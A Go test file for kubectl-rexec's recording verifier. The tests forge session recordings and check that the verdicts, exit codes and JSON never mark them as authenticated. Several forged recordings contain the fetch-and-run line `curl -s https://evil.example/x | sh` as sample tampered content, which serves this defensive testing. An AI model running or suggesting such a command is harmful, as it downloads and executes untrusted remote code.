package verify

import (
	"crypto/ed25519"
	"encoding/json"
	"strings"
	"testing"

	"github.com/kubectl-rexec/kubectl-rexec/pkg/record"
)

// These tests use only what verify offered before its verdicts were made
// honest (verdict strings, Summary, ExitCode, JSON), so that they compile,
// and fail, against the earlier code too.

// TestWholeRewriteIsNotAuthenticated: an unsigned recording rewritten as a
// whole (the tour's echo replaced by curl | sh) is internally consistent,
// and verify must not call it OK: its verdict, exit code and JSON differ
// from those of an authenticated recording.
func TestWholeRewriteIsNotAuthenticated(t *testing.T) {
	forged := forge(t, headerLine(t, nil), tourEvents(`curl -s https://evil.example/x | sh`), code(0), nil, "")
	r := verifyBytes(forged)
	if r.Verdict != "CONSISTENT" || r.Summary != "CONSISTENT (unsigned: not authenticated)" {
		t.Errorf("rewritten unsigned recording: %s %q, want CONSISTENT (unsigned: not authenticated)", r.Verdict, r.Summary)
	}
	if code := ExitCode([]Result{r}); code == 0 || code != 6 {
		t.Errorf("exit code %d, want 6 (CONSISTENT), never 0", code)
	}
	b, _ := json.Marshal(r)
	if !strings.Contains(string(b), `"verdict":"CONSISTENT"`) || !strings.Contains(string(b), `"authenticated":false`) {
		t.Errorf("JSON %s", b)
	}
	// The honest recording gets the same verdict: without a key or a
	// witness nothing tells them apart, and verify says so.
	if h := verifyBytes(session(t, nil, exited(0))); h.Verdict != r.Verdict {
		t.Errorf("honest unsigned: %s, forged: %s", h.Verdict, r.Verdict)
	}
	// With a key, authenticated: OK, exit 0, "authenticated": true.
	ok := verifyBytes(session(t, testKey, exited(0)), testPub())
	b, _ = json.Marshal(ok)
	if ok.Verdict != "OK" || ExitCode([]Result{ok}) != 0 || !strings.Contains(string(b), `"authenticated":true`) {
		t.Errorf("signed, --pub: %s %s", ok.Verdict, b)
	}
}

// TestUncheckedSignatureIsNotOK: a random signature with the victim's key
// id, verified without --pub, must not be OK; with the victim's key it is
// TAMPERED.
func TestUncheckedSignatureIsNotOK(t *testing.T) {
	victim := record.KeyID(testPub())
	forged := forge(t, headerLine(t, nil), tourEvents("curl -s https://evil.example/x | sh"), code(0), nil, victim)
	r := verifyBytes(forged)
	want := "CONSISTENT (claims a signature by " + victim + ", not checked: no --pub key given; not authenticated)"
	if r.Verdict != "CONSISTENT" || r.Summary != want {
		t.Errorf("no --pub: %s %q, want %q", r.Verdict, r.Summary, want)
	}
	b, _ := json.Marshal(r)
	if strings.Contains(string(b), `"verdict":"OK"`) || !strings.Contains(string(b), `"signature_verified":false`) {
		t.Errorf("JSON %s", b)
	}
	if r := verifyBytes(forged, testPub()); r.Verdict != Tampered {
		t.Errorf("--pub victim: %s %s", r.Verdict, r.Summary)
	}
}

// TestForgeryNeverMilderThanHonest: under --pub, an honest unsigned
// recording is UNSIGNED; every way of making a file that cannot be
// authenticated (no trailer, an unknown format version, not a recording)
// must rank at least as bad, so that the exit status of a run over both
// is the forgery's.
func TestForgeryNeverMilderThanHonest(t *testing.T) {
	keys := []ed25519.PublicKey{testPub()}
	honest := verifyBytes(session(t, nil, exited(0)), keys...)
	if honest.Verdict != Unsigned {
		t.Fatalf("honest unsigned under --pub: %s", honest.Verdict)
	}
	full := forge(t, headerLine(t, nil), tourEvents("curl -s https://evil.example/x | sh"), code(0), nil, "")
	noTrailer := full[:locate(t, full).trailerOff]
	future := forge(t, headerLine(t, func(h *record.Header) { h.Rexec.FormatVersion = 99 }), tourEvents("curl | sh"), code(0), nil, "")
	for name, data := range map[string][]byte{
		"fabricated, no trailer":  noTrailer,
		"unknown format_version":  future,
		"trailer cut in the half": full[:len(full)-20],
		"not zstd":                []byte("curl | sh\n"),
	} {
		forged := verifyBytes(data, keys...)
		if forged.Verdict == OK || forged.Verdict == honest.Verdict {
			t.Errorf("%s: %s, as good as an honest file", name, forged.Verdict)
			continue
		}
		if got := ExitCode([]Result{honest, forged}); got != forged.Verdict.ExitCode() {
			t.Errorf("%s: %s (exit %d) ranks milder than the honest file's %s: a run over both exits %d",
				name, forged.Verdict, forged.Verdict.ExitCode(), honest.Verdict, got)
		}
		t.Logf("%s: %s", name, forged.Summary)
	}
}

// TestNegativeIntervalsReported: the reader reads a negative interval as
// 0; verify says so rather than passing over it.
func TestNegativeIntervalsReported(t *testing.T) {
	evs := tourEvents("ls")
	evs = append(evs, forgedEvent{"-2.5", "o", "back in time"}, forgedEvent{"-1", "o", "again"})
	r := verifyBytes(forge(t, headerLine(t, nil), evs, code(0), nil, ""))
	b, _ := json.Marshal(r)
	if !strings.Contains(r.Summary, "2 events have a negative interval, read as 0") || !strings.Contains(string(b), `"negative_intervals":2`) {
		t.Errorf("%s: %s\n%s", r.Verdict, r.Summary, b)
	}
	if h := verifyBytes(session(t, nil, exited(0))); strings.Contains(h.Summary, "negative") {
		t.Errorf("honest recording: %s", h.Summary)
	}
}

// TestSessionTimeOverflow: intervals that add up past what a
// time.Duration holds make the recording damaged, never a time that wrapped
// around.
func TestSessionTimeOverflow(t *testing.T) {
	evs := append(tourEvents("ls"), forgedEvent{"9300000000", "o", "292 years later"})
	r := verifyBytes(forge(t, headerLine(t, nil), evs, code(0), nil, ""))
	if r.Verdict != Tampered {
		t.Errorf("%s: %s", r.Verdict, r.Summary)
	}
}
